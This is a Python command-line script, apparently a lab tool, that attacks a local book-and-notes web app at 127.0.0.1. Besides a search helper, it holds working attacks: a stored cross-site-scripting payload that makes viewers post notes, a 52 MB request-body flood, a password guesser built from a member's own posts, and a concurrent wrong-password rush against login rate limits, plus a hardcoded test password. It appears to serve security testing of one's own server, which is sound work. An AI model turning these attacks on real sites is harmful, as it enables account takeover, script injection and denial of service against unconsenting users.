"""Nuno's tools. They only know one address: your own computer's.

python nuno.py search WORD [SORT]   searches for books
python nuno.py note WORDS [LINK]    writes a note in Nuno's name
python nuno.py gift                 writes a note with a script in it
python nuno.py flood                sends 52 MB, twice, without a login
python nuno.py guess EMAIL          guesses a password, from what the member has written
python nuno.py rush EMAIL           sends 20 wrong passwords at the same moment
"""

import json
import re
import select
import socket
import sys
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection
from urllib.parse import urlencode

HOST, PORT = "127.0.0.1", 8000
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}
GIFT = """<script>
fetch("/notes", {
  method: "POST",
  headers: {"Content-Type": "application/json"},
  body: JSON.stringify({words: "Free ice cream for everybody today!"})
})
</script>What a lovely wall!"""
# One note with 52 MB.
PARTS = [b'{"words": "', *[b"x" * 65536] * 800, b'"}']


def send(method, path, body=None, headers=None):
    connection = HTTPConnection(HOST, PORT)
    connection.request(method, path, body, headers or {})
    answer = connection.getresponse()
    text = answer.read().decode()
    connection.close()
    return answer, text


def search(word, sort="title"):
    answer, text = send("GET", "/books?" + urlencode({"word": word, "sort": sort}))
    if answer.status != 200:
        print(answer.status, text)
        return
    for book in json.loads(text)["items"]:
        print(book["id"], book["title"], book["author"], sep=" | ")


def log_in(email, password):
    return send("POST", "/login", urlencode({"email": email, "password": password}), FORM)[0]


def note(words, link=""):
    cookie = log_in("nuno@example.com", "an-ice-cream-for-each-hole").headers["Set-Cookie"] or ""
    headers = {**JSON, "Cookie": cookie.partition(";")[0]}
    answer, text = send("POST", "/notes", json.dumps({"words": words, "link": link}), headers)
    print(answer.status, text)


def gift():
    note(GIFT)


def flood():
    for length in (f"Content-Length: {sum(map(len, PARTS))}", "Transfer-Encoding: chunked"):
        chunked = length.endswith("chunked")
        lines = ["POST /notes HTTP/1.1", f"Host: {HOST}", "Content-Type: application/json", length]
        sent = 0
        with socket.create_connection((HOST, PORT)) as server:
            server.sendall("\r\n".join([*lines, "", ""]).encode())
            # An empty chunk is the end.
            for part in [*PARTS, b""] if chunked else PARTS:
                # Stop as soon as the server answers.
                if select.select([server], [], [], 0.002 if sent else 0.3)[0]:
                    break
                server.sendall(b"%x\r\n%b\r\n" % (len(part), part) if chunked else part)
                sent += len(part)
            status = server.recv(4096).split()[1].decode()
        print(f"{length}: {sent / 1_000_000:.1f} MB sent, then {status}")


def passwords(words):
    for separator in ("", "_", "-", " "):
        for spelled in (str.lower, str.title, str.upper):
            for ending in ("", "1", "!", "2028"):
                yield spelled(separator.join(words)) + ending


def guess(email):
    name = email.partition("@")[0]
    notes = json.loads(send("GET", "/notes")[1])["items"]
    written = [note["words"] for note in notes if note["name"].lower() == name]
    guesses = [guess for words in written for guess in passwords(re.findall(r"\w+", words))]
    for number, password in enumerate(guesses, start=1):
        answer = log_in(email, password)
        print(number, answer.status, password)
        if answer.status == 303:
            print("That's it.")
            return
        if answer.status == 429:
            print("Retry-After:", answer.headers["Retry-After"])
            return
    print("None of them.")


def rush(email):
    with ThreadPoolExecutor(20) as people:
        statuses = people.map(lambda number: log_in(email, f"wrong-{number}").status, range(20))
    for status, count in sorted(Counter(statuses).items()):
        print(f"{count} times {status}")


TOOLS = {"search": search, "note": note, "gift": gift, "flood": flood, "guess": guess, "rush": rush}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in TOOLS:
        sys.exit(__doc__)
    try:
        TOOLS[sys.argv[1]](*sys.argv[2:])
    except ConnectionRefusedError:
        sys.exit(f"Nobody answers at port {PORT}. Is the server running?")
